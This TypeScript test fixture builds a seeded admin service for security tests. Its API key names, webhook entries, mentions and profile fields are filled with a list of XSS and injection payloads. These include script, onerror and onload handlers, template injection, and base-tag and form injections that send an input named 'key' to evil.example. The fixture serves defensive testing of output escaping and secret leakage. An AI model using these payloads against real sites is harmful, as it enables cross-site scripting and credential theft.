import type { Hex } from 'viem'
import { createToken, hashToken } from '../../../src/http/keys/api-key.ts'
import type { ApiKey } from '../../../src/http/keys/port.ts'
import type { Store } from '../../../src/main/stores.ts'
import { openStore } from '../../../src/main/stores.ts'
import { apiKeyOf } from '../../api-key.ts'
import { createSqliteDatabase } from '../../contract/store-databases.ts'
import { farcasterFinding, handleChannel, walletChannel } from '../../contract/store-people.ts'
import { freePort } from '../../free-port.ts'
import { startServer } from '../../journey/support.ts'

/** What would run if the page took a text for markup: each sets `pwned` of the window. */
export const scripts = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '"><svg onload="window.pwned=1">',
  "'><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  '</code></td></table><details open ontoggle="window.pwned=1">',
  'javascript:window.pwned=1//',
  "{{constructor.constructor('window.pwned=1')()}}",
  '<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css">',
  '<form action="https://evil.example/"><input name=key><button>Open</button></form>',
]
const text = (n: number) => scripts[n % scripts.length] ?? ''

/** The fid of a person whose every text is hostile, and of one who must not be forgotten. */
export const HOSTILE_FID = 666
export const VICTIM_FID = 616

/** The tokens of keys; by what they are refused for, and the operator's. */
export const tokens = {
  operator: createToken(),
  revoked: createToken(),
  expired: createToken(),
  reader: createToken(),
  issuer: createToken(),
  subscriber: createToken(),
  all: createToken(),
}
const WEBHOOK_SECRET = 'whsec_Y2Fubm90IGJlIHJlYWQgb24gYSBwYWdl'
const WEBHOOK_PATH = 'secret-path-of-a-webhook'
const FORGET_SECRET = 'forget-secret-that-no-page-may-show'

/** What no answer and no page may hold. */
export const secrets: readonly string[] = [
  ...Object.values(tokens),
  ...Object.values(tokens).map(hashToken),
  WEBHOOK_SECRET,
  WEBHOOK_PATH,
  FORGET_SECRET,
]

/** The built service with something to see, to replay, to revoke and to forget. */
export interface AdminWorld {
  /** Of the service, as its operator types it. */
  origin: string
  store: Store
  /** What an attack would change, in one text. */
  state(): Promise<string>
  close(): Promise<void>
}

const keys: [token: string, key: Partial<ApiKey>][] = [
  [tokens.operator, { id: 'operator', name: 'Operator', scopes: ['admin'] }],
  [tokens.revoked, { id: 'revoked', name: text(0), scopes: ['admin'] }],
  [tokens.expired, { id: 'expired', name: text(1), scopes: ['admin'], expiresAt: 2 }],
  [tokens.reader, { id: 'reader', name: text(2), scopes: ['read'] }],
  [tokens.issuer, { id: 'issuer', name: text(3), scopes: ['attest'] }],
  [tokens.subscriber, { id: 'subscriber', name: text(4), scopes: ['webhooks'] }],
  [tokens.all, { id: text(5), name: 'admin', scopes: ['read', 'attest', 'webhooks'] }],
]

async function plantMentions({ mentions }: Store): Promise<void> {
  for (let n = 0; n < scripts.length; n += 1) {
    const castHash = n === 0 ? (text(0) as Hex) : (`0x${n.toString(16).padStart(40, '0')}` as Hex)
    await mentions.claim({
      castHash,
      payload: { text: text(n) },
      authorFid: HOSTILE_FID,
      threadHash: text(n),
      receivedAt: 1,
    })
    await mentions.take('attack', 2, 1000, 1)
    await mentions.finish(castHash, 'attack', { kind: 'dead', reason: text(n) }, 3)
  }
}

async function plant(store: Store): Promise<void> {
  for (const [token, key] of keys) await store.keys.create(apiKeyOf(key), hashToken(token))
  await store.keys.revoke('revoked', 1)
  await plantMentions(store)
  for (let n = 0; n < scripts.length; n += 1) {
    const id = `wh_${n}`
    const url = `https://hooks${n}.example/${WEBHOOK_PATH}?token=${WEBHOOK_SECRET}`
    const targets = { identifiers: [], credentialNames: [text(n)], issuers: [] }
    const secrets = [{ secret: WEBHOOK_SECRET }]
    await store.webhooks.create({
      id,
      owner: text(n),
      url,
      targets,
      secrets,
      createdAt: 1,
      failures: 3,
    })
    await store.webhooks.settle(
      { webhookID: id, change: { id: 'e' } as never },
      { kind: 'gone', error: text(n) },
      1,
    )
    await store.owners.record({ action: 'key-revoked', who: text(n), address: '' })
  }
  const fields = { displayName: text(0), bio: text(1), location: text(2) }
  const claims = scripts.map((value) => handleChannel(value, false))
  await store.people.save(
    [farcasterFinding(HOSTILE_FID, [walletChannel(666), ...claims], { fields })],
    { refreshAt: null },
  )
  await store.people.save([farcasterFinding(VICTIM_FID, [walletChannel(616)])], { refreshAt: null })
}

export async function startAdminWorld(): Promise<AdminWorld> {
  const database = await createSqliteDatabase()
  const store = await openStore({ ...database.options, precedence: ['neynar'], clock: Date.now })
  await plant(store)
  const port = await freePort()
  const origin = `http://localhost:${port}`
  const server = await startServer(database.options, {
    PORT: String(port),
    BASE_URL: origin,
    FORGET_SECRET,
    // Each try comes from a client of its own: a limit must not refuse what something else should.
    TRUST_PROXY: '1',
  })
  return {
    origin,
    store,
    async state() {
      const [live, backlog, failing, victim] = await Promise.all([
        store.keys.list(),
        store.mentions.backlog(),
        store.webhooks.failing(100),
        store.people.find(`fid:${VICTIM_FID}`),
      ])
      const revoked = live.filter(({ revokedAt }) => revokedAt !== null).map(({ id }) => id)
      return JSON.stringify({
        revoked,
        dead: backlog.dead,
        failing: failing.length,
        people: victim.length,
      })
    },
    async close() {
      await server.stop()
      await store.close()
      await database.drop()
    },
  }
}
